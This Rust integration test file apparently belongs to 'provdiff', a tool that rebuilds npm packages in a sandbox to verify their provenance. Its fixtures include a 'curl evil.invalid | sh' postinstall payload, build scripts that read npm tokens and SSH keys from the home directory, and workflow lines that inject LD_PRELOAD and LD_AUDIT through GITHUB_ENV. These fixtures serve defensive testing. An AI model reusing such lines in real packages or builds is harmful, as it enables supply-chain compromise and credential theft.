//! `check --rebuild` end to end, on repositories generated here: a TypeScript package built by
//! `tsc`, its `npm ci` installing `typescript` from a test registry through the sandbox's proxy
//! (and, with `--rebuild-offline`, from an npm cache), a build whose published package holds a
//! file the build does not make, a build that fails, builds that try to write outside their
//! checkout or read the user's home, a build that reaches for a host that is not the registry, and
//! what happens without a working sandbox; and the ways out a build might try: loader variables
//! through `GITHUB_ENV`, a tool under the home, npm configuration files and the SSH agent outside
//! it, links left for provdiff to follow, yarn's own registry settings.
//!
//! The TypeScript tests install the real `typescript` their lockfile pins, never from the network:
//! `cargo xtask rebuild-deps` fills the npm cache the offline test reads and keeps the tarball the
//! registry test serves, each checked against the lockfile's integrity. The yarn test runs the
//! yarn 1 and yarn berry that `cargo xtask pack-tools` installs, and skips without them unless
//! `PROVDIFF_REQUIRE_NPM=1`.
//!
//! Tests that need bubblewrap say why they skip when it cannot create namespaces here, unless
//! `PROVDIFF_REQUIRE_SANDBOX=1` (CI) makes that a failure; the TypeScript tests likewise skip
//! without what `cargo xtask rebuild-deps` makes unless `PROVDIFF_REQUIRE_REBUILD_DEPS=1`.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::print_stderr)]

mod support;

use std::path::{Path, PathBuf};
use std::process::Command;

use provdiff_testkit::{
    NPM_PUBLISH, ProvenanceSpec, RepoFile, SLSA_V1, SigstoreInstance, TestRegistry, TestRepo, TestVersion,
};
use support::{REPOSITORY, Run};

const ROOT: &str = env!("CARGO_MANIFEST_DIR");
const TYPESCRIPT_PACKAGE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/rebuild/typescript");

/// Whether bubblewrap can build the sandbox provdiff uses, here.
fn sandbox_works() -> bool {
    let works = Command::new(std::env::var_os("PROVDIFF_BWRAP").unwrap_or_else(|| "bwrap".into()))
        .args(["--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--unshare-all", "--cap-drop", "ALL"])
        .args(["--die-with-parent", "--new-session", "--", "true"])
        .output()
        .is_ok_and(|output| output.status.success());
    if !works {
        assert!(
            std::env::var_os("PROVDIFF_REQUIRE_SANDBOX").is_none(),
            "PROVDIFF_REQUIRE_SANDBOX is set but bubblewrap cannot create its namespaces here"
        );
        eprintln!("skipping: bubblewrap is missing or cannot create namespaces here (the refusal tests still run)");
    }
    works
}

/// A directory `cargo xtask rebuild-deps` fills under `target/rebuild-deps/` (`npm-cache`, the
/// npm cache the offline build installs from; `tarballs`, what the lockfiles pin, for a test
/// registry to serve), or why the test skips.
fn rebuild_dep(name: &str) -> Option<PathBuf> {
    let dir = Path::new(ROOT).join("target/rebuild-deps").join(name);
    if dir.join("provdiff-stamp").is_file() {
        return Some(dir);
    }
    assert!(
        std::env::var_os("PROVDIFF_REQUIRE_REBUILD_DEPS").is_none(),
        "PROVDIFF_REQUIRE_REBUILD_DEPS is set but target/rebuild-deps/{name} is missing: run `cargo xtask rebuild-deps`"
    );
    eprintln!("skipping: target/rebuild-deps/{name} is missing; `cargo xtask rebuild-deps` fills it");
    None
}

/// The version of `name` the TypeScript package's lockfile pins, with the tarball kept of it,
/// for a test registry to publish (its `dist.integrity` is the tarball's).
fn pinned_by_the_typescript_lockfile(tarballs: &Path, name: &str) -> TestVersion {
    let lockfile = Path::new(TYPESCRIPT_PACKAGE).join("package-lock.json");
    let lock: serde_json::Value = serde_json::from_slice(&fs_err::read(&lockfile).unwrap()).unwrap();
    let entry = &lock["packages"][format!("node_modules/{name}")];
    // Without `resolved`, npm finds the tarball through the packument of the registry it is given.
    assert!(entry.get("resolved").is_none(), "{} names where {name} comes from", lockfile.display());
    let (version, integrity) = (entry["version"].as_str().unwrap(), entry["integrity"].as_str().unwrap());
    let tarball = fs_err::read(tarballs.join(format!("{name}-{version}.tgz"))).unwrap();
    let pinned = TestVersion::new(name, version, tarball);
    assert_eq!(pinned.integrity(), integrity, "the kept tarball of {name}@{version} is the one the lockfile pins");
    pinned
}

/// A published package with one file the commit lacks, so that a rebuild runs.
fn with_a_file_to_rebuild(published: &mut Vec<provdiff_npm::PackedFile>) {
    published.push(provdiff_npm::PackedFile { path: "extra.js".into(), mode: 0o644, content: b"x\n".to_vec() });
}

/// A workflow that publishes after `steps` (shell lines), on Node.js 20.
fn workflow(steps: &[&str]) -> String {
    let mut text = String::from(
        "name: publish\non:\n  release:\n    types: [published]\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    \
         steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          \
         node-version: 20\n",
    );
    for step in steps {
        text.push_str(&format!("      - run: {step}\n"));
    }
    text.push_str(
        "      - run: npm publish --provenance\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
    );
    text
}

/// A repository, a package published from a build of it, and attestations, in a temp directory.
struct Rebuild {
    dir: tempfile::TempDir,
}

impl Rebuild {
    /// Commits `files`, "publishes" what `build` leaves in a copy of them (packed as npm packs),
    /// after `tamper` had its way with the packed files, and signs the attestations.
    fn new(
        files: &[RepoFile],
        build: impl FnOnce(&Path),
        tamper: impl FnOnce(&mut Vec<provdiff_npm::PackedFile>),
    ) -> Self {
        Self::new_in(&std::env::temp_dir(), files, build, tamper)
    }

    /// [`Rebuild::new`] in a directory under `parent`: the directory provdiff runs in.
    fn new_in(
        parent: &Path,
        files: &[RepoFile],
        build: impl FnOnce(&Path),
        tamper: impl FnOnce(&mut Vec<provdiff_npm::PackedFile>),
    ) -> Self {
        let dir = tempfile::tempdir_in(parent).unwrap();
        let repo = TestRepo::init_bare(&dir.path().join("repo.git"));
        let commit = repo.commit(files, "release");
        let original = dir.path().join("original-build");
        for file in files {
            let path = original.join(&file.path);
            fs_err::create_dir_all(path.parent().unwrap()).unwrap();
            fs_err::write(&path, &file.content).unwrap();
        }
        build(&original);
        let source = provdiff_npm::DirSource::open(&original).unwrap();
        let packed = provdiff_npm::pack(&source, provdiff_npm::NpmRules::LATEST, None).unwrap();
        let mut published = packed.files.clone();
        tamper(&mut published);
        let tgz = provdiff_npm::gzip(&provdiff_npm::write_tar(&published, provdiff_npm::NpmRules::LATEST.tar_format()));
        fs_err::write(dir.path().join("package.tgz"), &tgz).unwrap();

        let manifest: serde_json::Value =
            serde_json::from_slice(&published.iter().find(|f| f.path == "package.json").unwrap().content).unwrap();
        let (name, version) = (manifest["name"].as_str().unwrap(), manifest["version"].as_str().unwrap());
        let instance = SigstoreInstance::new();
        fs_err::write(dir.path().join("trusted_root.json"), instance.trusted_root_json()).unwrap();
        fs_err::write(dir.path().join("npm_keys.json"), instance.npm_keys_json()).unwrap();
        let sha512 = provdiff_core::Sha512::digest(&tgz);
        let spec = ProvenanceSpec::new(name, version, sha512, REPOSITORY, &commit);
        let provenance = instance.sign_provenance(&spec);
        let publish = instance.sign_publish(name, version, &sha512, spec.signed_at);
        let response = SigstoreInstance::attestations_response(&[(SLSA_V1, &provenance), (NPM_PUBLISH, &publish)]);
        fs_err::write(dir.path().join("attestations.json"), response).unwrap();
        Self { dir }
    }

    fn check(&self, extra: &[&str], env: &[(&str, &std::ffi::OsStr)]) -> Run {
        let empty_cache = self.dir.path().join("empty-npm-cache");
        fs_err::create_dir_all(&empty_cache).unwrap();
        let mut extra: Vec<&str> = extra.to_vec();
        if extra.contains(&"--rebuild-offline") && !extra.contains(&"--rebuild-cache") {
            extra.extend(["--rebuild-cache", "empty-npm-cache"]);
        }
        let mut command = Command::new(env!("CARGO_BIN_EXE_provdiff"));
        command.args([
            "check",
            "--tarball",
            "package.tgz",
            "--attestations",
            "attestations.json",
            "--repo",
            "repo.git",
        ]);
        command.args(["--trusted-root", "trusted_root.json", "--npm-keys", "npm_keys.json"]).args(&extra);
        command.current_dir(self.dir.path());
        for (name, value) in env {
            command.env(name, value);
        }
        let output = command.output().unwrap();
        let run = Run {
            code: output.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
        };
        support::assert_matches_schema(&run, "report.schema.json");
        run
    }
}

fn finding<'a>(report: &'a serde_json::Value, code: &str) -> Vec<&'a serde_json::Value> {
    report["findings"].as_array().unwrap().iter().filter(|f| f["code"] == code).collect()
}

/// A package whose `node build.js` writes `dist/index.js`, built by the workflow.
fn node_build_files(build_js: &str) -> Vec<RepoFile> {
    vec![
        RepoFile::new(
            "package.json",
            r#"{"name":"widget","version":"1.2.3","main":"dist/index.js","files":["dist"],"license":"MIT"}"#,
        ),
        RepoFile::new("build.js", build_js),
        RepoFile::new(
            "package-lock.json",
            r#"{"name":"widget","version":"1.2.3","lockfileVersion":3,"requires":true,"packages":{"":{"name":"widget","version":"1.2.3","license":"MIT"}}}"#,
        ),
        RepoFile::new(".github/workflows/publish.yml", workflow(&["npm ci", "node build.js"])),
    ]
}

const GOOD_BUILD: &str = "const fs = require('fs');\nfs.mkdirSync('dist', { recursive: true });\nfs.writeFileSync('dist/index.js', 'module.exports = 42;\\n');\n";

/// Publishes `dist/index.js`, so that only a rebuild can prove the package.
fn publish_a_build_output(files: &mut Vec<provdiff_npm::PackedFile>) {
    files.push(provdiff_npm::PackedFile { path: "dist/index.js".into(), mode: 0o644, content: b"x\n".to_vec() });
}

fn run_node_build(dir: &Path) {
    let status = Command::new("node").arg("build.js").current_dir(dir).status().unwrap();
    assert!(status.success());
}

/// The TypeScript package of `tests/rebuild/typescript`, published by a workflow that runs
/// `npm ci` and `npm run build` (`tsc`).
fn typescript_files() -> Vec<RepoFile> {
    let mut files: Vec<RepoFile> = ["package.json", "package-lock.json", "tsconfig.json", "src/index.ts"]
        .iter()
        .map(|path| RepoFile::new(path, fs_err::read(Path::new(TYPESCRIPT_PACKAGE).join(path)).unwrap()))
        .collect();
    files.push(RepoFile::new(".github/workflows/publish.yml", workflow(&["npm ci", "npm run build"])));
    files
}

#[test]
fn a_typescript_package_rebuilt_offline_from_the_npm_cache_is_proven() {
    let (Some(cache), true) = (rebuild_dep("npm-cache"), sandbox_works()) else { return };
    let files = typescript_files();
    // The original build: the same npm and tsc, outside any sandbox, from the same cache.
    let scenario = Rebuild::new(
        &files,
        |dir| {
            let npm = |args: &[&str]| {
                let output =
                    Command::new("npm").args(args).arg("--cache").arg(&cache).current_dir(dir).output().unwrap();
                assert!(output.status.success(), "npm {args:?}: {}", String::from_utf8_lossy(&output.stderr));
            };
            npm(&["ci", "--offline", "--no-audit", "--no-fund"]);
            npm(&["run", "build"]);
        },
        |_| {},
    );

    let plain = scenario.check(&["--json"], &[]);
    assert_eq!(plain.code, 3, "without --rebuild the build outputs are unproven:\n{}", plain.stdout);
    let report = plain.json();
    assert_eq!(finding(&report, "build-output").len(), 2, "dist/index.js and dist/index.d.ts");
    assert_eq!(finding(&report, "rebuild-needed").len(), 1);

    let cache = cache.into_os_string();
    let run =
        scenario.check(&["--json", "--rebuild", "--rebuild-offline", "--rebuild-cache", cache.to_str().unwrap()], &[]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let report = run.json();
    assert!(matches!(report["verdict"].as_str(), Some("identical" | "equivalent")), "{}", run.stdout);
    assert_eq!(report["rebuild"]["status"], "built");
    assert_eq!(report["rebuild"]["plan"]["source"]["kind"], "workflow");
    assert!(report["rebuild"]["build"]["network"].as_str().unwrap().starts_with("none (offline"));
    assert!(report["rebuild"]["build"]["steps"][1]["log"].as_str().unwrap().contains("tsc"));
    assert_eq!(finding(&report, "rebuild-proven").len(), 1);
    assert!(finding(&report, "build-output").is_empty());
}

#[test]
fn a_typescript_package_rebuilt_with_typescript_from_the_registry_is_proven() {
    let (Some(tarballs), true) = (rebuild_dep("tarballs"), sandbox_works()) else { return };
    let mut typescript = pinned_by_the_typescript_lockfile(&tarballs, "typescript");
    // Cacheable, as a registry serves it: an npm cache that holds it answers without asking.
    typescript.tarball_cache_control = Some("public, immutable, max-age=31557600".into());
    let registry = TestRegistry::start();
    registry.publish(typescript.clone());
    let url = registry.url();
    // The original build: the same npm and tsc, outside any sandbox, from the same registry into
    // a cache of its own.
    let original_cache = tempfile::tempdir().unwrap();
    let scenario = Rebuild::new(
        &typescript_files(),
        |dir| {
            let npm = |args: &[&str]| {
                let output = Command::new("npm")
                    .args(args)
                    .args(["--registry", &url, "--cache"])
                    .arg(original_cache.path())
                    .current_dir(dir)
                    .output()
                    .unwrap();
                assert!(output.status.success(), "npm {args:?}: {}", String::from_utf8_lossy(&output.stderr));
            };
            npm(&["ci", "--no-audit", "--no-fund"]);
            npm(&["run", "build"]);
        },
        |_| {},
    );
    let tarball_path = typescript.tarball_path();
    let (requests_before, tarball_bytes_before) = (registry.requests().len(), registry.bytes_sent_to(&tarball_path));

    let run = scenario.check(&["--json", "--rebuild", "--registry", &url], &[]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let report = run.json();
    assert!(matches!(report["verdict"].as_str(), Some("identical" | "equivalent")), "{}", run.stdout);
    let rebuild = &report["rebuild"];
    assert_eq!(rebuild["status"], "built", "{}", run.stdout);
    assert_eq!(rebuild["plan"]["source"]["kind"], "workflow");
    let network = rebuild["build"]["network"].as_str().unwrap();
    assert_eq!(network, format!("the package registry only ({}), through provdiff's proxy", registry.addr()));
    assert_eq!(rebuild["build"]["refused_connections"], serde_json::json!([]), "{}", run.stdout);
    let steps = rebuild["build"]["steps"].as_array().unwrap();
    assert!(steps[0]["log"].as_str().unwrap().contains("added 1 package"), "npm ci: {}", steps[0]["log"]);
    assert!(steps[1]["log"].as_str().unwrap().contains("tsc"), "{}", steps[1]["log"]);
    // The build outputs are proven, and nothing else is left to say but that the publish step's
    // token stayed out.
    assert_eq!(rebuild["before_rebuild"]["build_outputs"], 2, "dist/index.js and dist/index.d.ts");
    assert_eq!(run.codes(), ["rebuild-step-skipped", "rebuild-proven"], "{}", run.stdout);
    assert!(finding(&report, "rebuild-step-skipped")[0]["detail"].as_str().unwrap().contains("NODE_AUTH_TOKEN"));
    let proven = finding(&report, "rebuild-proven");
    assert!(proven[0]["detail"].as_str().unwrap().starts_with("2 of the 2 files"), "{}", proven[0]);
    let comparison = &report["comparison"];
    assert_eq!((&comparison["identical_files"], &comparison["package_files"]), (&3.into(), &3.into()));
    assert_eq!(comparison["rebuild_needed"], serde_json::json!([]));
    for path in ["dist/index.js", "dist/index.d.ts"] {
        let file = report["files"].as_array().unwrap().iter().find(|file| file["path"] == path);
        assert_eq!(file.map(|file| &file["status"]), Some(&serde_json::json!("identical")), "{path}: {file:?}");
    }

    // typescript came from the registry, through the proxy: the build's npm cache started empty
    // (it asked for the packument unconditionally), and no other cache was in reach, not even
    // the original build's, which holds this very tarball from this very URL.
    let during: Vec<_> = registry.requests().split_off(requests_before);
    let gets = |path: &str| during.iter().filter(|r| r.method == "GET" && r.path == path).collect::<Vec<_>>();
    let packument = gets(&typescript.packument_path());
    assert_eq!(packument.len(), 1, "{during:?}");
    assert_eq!(packument[0].header("if-none-match"), None, "the build had a cached packument: {during:?}");
    assert_eq!(gets(&tarball_path).len(), 1, "{during:?}");
    // The proxy's mark: it sends each request on a connection of its own, where npm asks to keep
    // the connection alive.
    assert!(during.iter().all(|r| r.header("connection") == Some("close")), "{during:?}");
    assert_eq!(
        registry.bytes_sent_to(&tarball_path) - tarball_bytes_before,
        typescript.tarball.len() as u64,
        "the whole tarball was served"
    );
}

#[test]
fn a_file_the_build_does_not_make_is_a_mismatch() {
    if !sandbox_works() {
        return;
    }
    let scenario = Rebuild::new(&node_build_files(GOOD_BUILD), run_node_build, |files| {
        files.push(provdiff_npm::PackedFile {
            path: "dist/postinstall.js".into(),
            mode: 0o644,
            content: b"require('child_process').exec('curl evil.invalid | sh');\n".to_vec(),
        });
    });
    let run = scenario.check(&["--json", "--rebuild", "--rebuild-offline"], &[]);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    let report = run.json();
    assert_eq!(report["verdict"], "mismatch");
    let only = finding(&report, "only-in-package");
    assert_eq!(only.len(), 1, "{}", run.stdout);
    assert_eq!(only[0]["path"], "dist/postinstall.js");
    assert!(only[0]["detail"].as_str().unwrap().contains("not produced by rebuilding"));
    // The file the build does make is proven.
    assert_eq!(finding(&report, "rebuild-proven").len(), 1);
}

#[test]
fn a_build_that_fails_is_an_operational_error_with_its_output_in_the_report() {
    if !sandbox_works() {
        return;
    }
    let files = node_build_files("console.error('tsc: error TS2304: cannot find name'); process.exit(2);\n");
    let failing = Rebuild::new(
        &files,
        |_| {},
        |published| {
            published.push(provdiff_npm::PackedFile {
                path: "dist/index.js".into(),
                mode: 0o644,
                content: b"x\n".to_vec(),
            });
        },
    );
    let run = failing.check(&["--rebuild", "--rebuild-offline"], &[]);
    assert_eq!(run.code, 2, "{}\n{}", run.stdout, run.stderr);
    assert!(run.stderr.contains("the rebuild failed: step 4 exited with status 2"), "{}", run.stderr);
    assert!(run.stdout.contains("rebuild     FAILED"), "{}", run.stdout);
    assert!(
        run.stdout.contains("| tsc: error TS2304: cannot find name"),
        "the build's output is in the report:\n{}",
        run.stdout
    );

    let run = failing.check(
        &["--json", "--rebuild", "--rebuild-offline", "--attestation", "statement.json", "--markdown", "report.md"],
        &[],
    );
    assert_eq!(run.code, 2);
    let report = run.json();
    assert_eq!(report["rebuild"]["status"], "failed");
    assert_eq!(report["rebuild"]["build"]["steps"][1]["exit"]["code"], 2);
    // Every report says the rebuild failed, and none looks like a rebuilt package's.
    assert_eq!(report["verdict"], "inconclusive");
    let failed = finding(&report, "rebuild-failed");
    assert_eq!(failed.len(), 1, "{}", run.stdout);
    assert!(failed[0]["detail"].as_str().unwrap().contains("step 4 exited with status 2"));
    let statement: serde_json::Value =
        serde_json::from_slice(&fs_err::read(failing.dir.path().join("statement.json")).unwrap()).unwrap();
    support::assert_value_matches_schema(&statement, "verdict-predicate.schema.json");
    let predicate = &statement["predicate"];
    assert_eq!(predicate["verdict"], "inconclusive");
    assert_eq!(predicate["rebuild"], serde_json::json!({"status": "failed", "sandboxed": true}));
    assert!(predicate["findings"].as_array().unwrap().iter().any(|f| f["code"] == "rebuild-failed"));
    let markdown = fs_err::read_to_string(failing.dir.path().join("report.md")).unwrap();
    assert!(markdown.contains("rebuild-failed"), "{markdown}");
}

#[test]
fn a_build_that_writes_outside_its_checkout_is_refused() {
    if !sandbox_works() {
        return;
    }
    let escape = "const fs = require('fs');\nfs.writeFileSync('/usr/local/lib/provdiff-escape.js', 'owned');\n";
    let scenario = Rebuild::new(&node_build_files(escape), |_| {}, publish_a_build_output);
    let run = scenario.check(&["--json", "--rebuild", "--rebuild-offline"], &[]);
    assert_eq!(run.code, 2, "{}\n{}", run.stdout, run.stderr);
    assert!(run.stderr.contains("the sandbox refused the build"), "{}", run.stderr);
    assert!(run.stderr.contains("EROFS"), "{}", run.stderr);
    let report = run.json();
    assert_eq!(report["rebuild"]["status"], "refused-by-sandbox");
    assert!(!Path::new("/usr/local/lib/provdiff-escape.js").exists());
    // The report, and so the verdict statement, says both that it failed and what was refused.
    assert_eq!(report["verdict"], "inconclusive");
    assert!(finding(&report, "rebuild-failed")[0]["detail"].as_str().unwrap().contains("the sandbox refused"));
    let denied = finding(&report, "rebuild-sandbox-denied");
    assert!(denied.len() == 1 && denied[0]["detail"].as_str().unwrap().contains("EROFS"), "{}", run.stdout);
}

#[test]
fn a_build_that_reads_the_user_s_home_is_refused() {
    if !sandbox_works() {
        return;
    }
    let home = tempfile::tempdir().unwrap();
    fs_err::write(home.path().join(".npmrc"), "//registry.invalid/:_authToken=SECRET-TOKEN-1234\n").unwrap();
    let npmrc = home.path().join(".npmrc");
    let steal = format!(
        "const fs = require('fs');\nconst token = fs.readFileSync({:?}, 'utf8');\nfs.mkdirSync('dist', {{ recursive: true }});\nfs.writeFileSync('dist/index.js', token);\n",
        npmrc.to_str().unwrap()
    );
    let scenario = Rebuild::new(&node_build_files(&steal), |_| {}, publish_a_build_output);
    let run = scenario.check(&["--rebuild", "--rebuild-offline"], &[("HOME", home.path().as_os_str())]);
    assert_eq!(run.code, 2, "{}\n{}", run.stdout, run.stderr);
    assert!(run.stderr.contains("the sandbox refused the build"), "{}", run.stderr);
    assert!(run.stderr.contains("EACCES"), "{}", run.stderr);
    assert!(!run.stdout.contains("SECRET-TOKEN") && !run.stderr.contains("SECRET-TOKEN"));
}

#[test]
fn the_build_reaches_the_registry_and_nothing_else() {
    if !sandbox_works() {
        return;
    }
    let registry = TestRegistry::start();
    registry.publish(TestVersion::new("left-pad", "1.3.0", b"not a real tarball".to_vec()));
    let elsewhere = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let elsewhere_port = elsewhere.local_addr().unwrap().port();
    let files = vec![
        RepoFile::new("package.json", r#"{"name":"widget","version":"1.2.3","license":"MIT"}"#),
        RepoFile::new(
            ".github/workflows/publish.yml",
            workflow(&[
                "npm view left-pad@1.3.0 version",
                &format!("npm view left-pad version --registry http://127.0.0.1:{elsewhere_port}/ --fetch-retries 0"),
            ]),
        ),
    ];
    let scenario = Rebuild::new(&files, |_| {}, with_a_file_to_rebuild);
    // --registry names the registry, over npm's own configuration (here a port nobody listens on).
    let url = registry.url();
    let configured = format!("http://127.0.0.1:{}/", closed_port());
    let run = scenario.check(
        &["--json", "--rebuild", "--registry", &url],
        &[("npm_config_registry", std::ffi::OsStr::new(&configured))],
    );
    assert_eq!(run.code, 2, "{}\n{}", run.stdout, run.stderr);
    let report = run.json();
    let steps = report["rebuild"]["build"]["steps"].as_array().unwrap();
    assert_eq!(steps[0]["exit"]["code"], 0, "the registry is reachable: {}", steps[0]["log"]);
    assert!(steps[0]["log"].as_str().unwrap().contains("1.3.0"));
    assert_eq!(report["rebuild"]["status"], "refused-by-sandbox", "{}", run.stdout);
    let refused = report["rebuild"]["build"]["refused_connections"].as_array().unwrap();
    assert_eq!(refused.len(), 1, "{refused:?}");
    assert!(refused[0].as_str().unwrap().contains(&format!("127.0.0.1:{elsewhere_port}")));
    elsewhere.set_nonblocking(true).unwrap();
    assert!(elsewhere.accept().is_err(), "nothing reached the host that is not the registry");
    assert!(!registry.requests_to("/left-pad").is_empty());
    let network = report["rebuild"]["build"]["network"].as_str().unwrap();
    assert!(network.contains(&registry.addr().to_string()), "{network}");
}

/// A loopback port nothing listens on.
fn closed_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

#[test]
fn without_a_working_sandbox_provdiff_refuses_unless_unsandboxed() {
    let scenario = Rebuild::new(&node_build_files(GOOD_BUILD), run_node_build, |_| {});
    let missing = std::ffi::OsStr::new("/nonexistent/bwrap");
    let run = scenario.check(&["--rebuild", "--rebuild-offline"], &[("PROVDIFF_BWRAP", missing)]);
    assert_eq!(run.code, 2, "{}\n{}", run.stdout, run.stderr);
    assert!(run.stderr.contains("refusing to run the package's build: no working sandbox"), "{}", run.stderr);
    assert!(run.stdout.is_empty(), "nothing ran, so nothing is reported");

    let run =
        scenario.check(&["--json", "--rebuild", "--rebuild-offline", "--unsandboxed"], &[("PROVDIFF_BWRAP", missing)]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let report = run.json();
    assert_eq!(report["rebuild"]["build"]["sandbox"], "none (--unsandboxed)");
    assert_eq!(finding(&report, "rebuild-unsandboxed").len(), 1);
    assert_eq!(finding(&report, "rebuild-proven").len(), 1);
}

#[test]
fn plain_check_never_runs_package_code() {
    let marker = tempfile::tempdir().unwrap();
    let touched = marker.path().join("ran");
    let build = format!("require('fs').writeFileSync({:?}, 'ran');\n", touched.to_str().unwrap());
    let scenario = Rebuild::new(
        &node_build_files(&build),
        |_| {},
        |published| {
            published.push(provdiff_npm::PackedFile {
                path: "dist/index.js".into(),
                mode: 0o644,
                content: b"x\n".to_vec(),
            });
        },
    );
    let run = scenario.check(&["--json"], &[]);
    assert_eq!(run.code, 3, "{}\n{}", run.stdout, run.stderr);
    let report = run.json();
    assert!(report.get("rebuild").is_none());
    let needed = finding(&report, "rebuild-needed");
    assert_eq!(needed.len(), 1);
    let outputs = finding(&report, "build-output");
    assert!(outputs[0]["detail"].as_str().unwrap().contains(".github/workflows/publish.yml step 4"), "{}", run.stdout);
    assert!(!touched.exists(), "no package code ran");
}

/// A shared library whose constructor appends a line to `marker` wherever it is loaded: compiled
/// with the C compiler Rust links with, into `dir` (on the host, where the sandbox's fresh `/tmp`
/// hides it from the build).
fn loader_probe(dir: &Path, marker: &Path) -> PathBuf {
    let source = dir.join("probe.c");
    let library = dir.join("probe.so");
    fs_err::write(
        &source,
        format!(
            "#include <stdio.h>\n__attribute__((constructor)) static void probe(void) {{\n  FILE *f = fopen({:?}, \"a\");\n  if (f) {{ fputs(\"loaded\\n\", f); fclose(f); }}\n}}\n",
            marker.to_str().unwrap()
        ),
    )
    .unwrap();
    let compiler = std::env::var_os("CC").unwrap_or_else(|| "cc".into());
    let output = Command::new(compiler).args(["-shared", "-fPIC", "-o"]).arg(&library).arg(&source).output().unwrap();
    assert!(output.status.success(), "cc: {}", String::from_utf8_lossy(&output.stderr));
    library
}

#[test]
fn variables_a_build_sets_cannot_run_code_outside_the_sandbox() {
    if !sandbox_works() {
        return;
    }
    let host = tempfile::tempdir().unwrap();
    let marker = host.path().join("loaded-outside-the-sandbox");
    let library = loader_probe(host.path(), &marker);
    let library = library.to_str().unwrap();
    // The probe works: loaded here, it leaves its mark.
    let status = Command::new("true").env("LD_PRELOAD", library).status().unwrap();
    assert!(status.success() && marker.exists(), "the loader probe does not work here");
    fs_err::remove_file(&marker).unwrap();

    let mut files = node_build_files(GOOD_BUILD);
    let workflow = format!(
        "name: publish\non: push\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      \
         - run: |\n          echo \"LD_PRELOAD={library}\" >> \"$GITHUB_ENV\"\n          printf 'LD_LIBRARY_PATH<<EOF\\n%s\\nEOF\\n' \"{dir}\" >> \"$GITHUB_ENV\"\n          \
         echo \"LD_AUDIT={library}\" >> \"$GITHUB_ENV\"\n          echo \"GCONV_PATH={dir}\" >> \"$GITHUB_ENV\"\n          echo \"KEPT=yes\" >> \"$GITHUB_ENV\"\n      \
         - run: npm ci\n        env:\n          LD_PRELOAD: {library}\n      - run: node build.js\n      \
         - run: test \"$KEPT\" = yes && test -z \"$LD_PRELOAD$LD_LIBRARY_PATH$LD_AUDIT$GCONV_PATH\"\n      \
         - run: npm publish --provenance\n",
        dir = host.path().display()
    );
    files.retain(|file| file.path != ".github/workflows/publish.yml");
    files.push(RepoFile::new(".github/workflows/publish.yml", workflow));
    let scenario = Rebuild::new(&files, run_node_build, |_| {});
    let run = scenario.check(&["--json", "--rebuild", "--rebuild-offline"], &[]);
    assert!(!marker.exists(), "code ran outside the sandbox:\n{}\n{}", run.stdout, run.stderr);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let report = run.json();
    assert_eq!(report["rebuild"]["status"], "built");
    let ignored: Vec<String> =
        finding(&report, "rebuild-step-skipped").iter().map(|f| f["detail"].as_str().unwrap().to_string()).collect();
    for name in ["LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "GCONV_PATH"] {
        assert!(ignored.iter().any(|detail| detail.contains(name)), "{name} is reported as ignored: {ignored:?}");
    }
    assert!(!ignored.iter().any(|detail| detail.contains("KEPT")), "{ignored:?}");
}

#[test]
fn a_tool_under_the_user_s_home_shows_only_itself_to_the_build() {
    if !sandbox_works() {
        return;
    }
    // The user's home holds a key, and the `node` the PATH finds first, in ~/bin.
    let home = tempfile::tempdir().unwrap();
    fs_err::create_dir_all(home.path().join(".ssh")).unwrap();
    let key = home.path().join(".ssh/id_ed25519");
    fs_err::write(&key, "SECRET-KEY-5678\n").unwrap();
    fs_err::create_dir_all(home.path().join("bin")).unwrap();
    let node = which("node");
    std::os::unix::fs::symlink(&node, home.path().join("bin/node")).unwrap();
    let path = format!("{}:{}", home.path().join("bin").display(), std::env::var("PATH").unwrap());

    let build = format!(
        "try {{ console.log('read: ' + require('fs').readFileSync({key:?}, 'utf8')); }} catch (e) {{ console.log('hidden: ' + e.code); }}\n{GOOD_BUILD}",
        key = key.to_str().unwrap()
    );
    let scenario = Rebuild::new(&node_build_files(&build), run_node_build, |_| {});
    let run = scenario.check(
        &["--json", "--rebuild", "--rebuild-offline"],
        &[("HOME", home.path().as_os_str()), ("PATH", std::ffi::OsStr::new(&path))],
    );
    assert!(!run.stdout.contains("SECRET-KEY") && !run.stderr.contains("SECRET-KEY"), "{}", run.stdout);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let report = run.json();
    let steps = report["rebuild"]["build"]["steps"].as_array().unwrap();
    assert!(steps.iter().any(|step| step["log"].as_str().unwrap().contains("hidden: ")), "{steps:?}");
}

fn which(program: &str) -> PathBuf {
    std::env::split_paths(&std::env::var_os("PATH").unwrap())
        .map(|dir| dir.join(program))
        .find(|candidate| candidate.is_file())
        .unwrap_or_else(|| panic!("{program} is not on the PATH"))
}

#[test]
fn npm_configuration_files_and_the_ssh_agent_are_hidden_wherever_they_are() {
    if !sandbox_works() {
        return;
    }
    // Outside every directory the sandbox hides anyway (its /tmp and /home are fresh): under
    // target/, which the build sees read-only. provdiff runs in a directory below `project`,
    // whose package.json makes it npm's project directory.
    let outside = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let project = outside.path().join("project");
    fs_err::create_dir_all(&project).unwrap();
    fs_err::write(project.join("package.json"), "{}").unwrap();
    let project_npmrc = project.join(".npmrc");
    let user_npmrc = outside.path().join("user-npmrc");
    let global_npmrc = outside.path().join("global-npmrc");
    let agent = outside.path().join("agent.sock");
    let build = format!(
        "const net = require('net');\n\
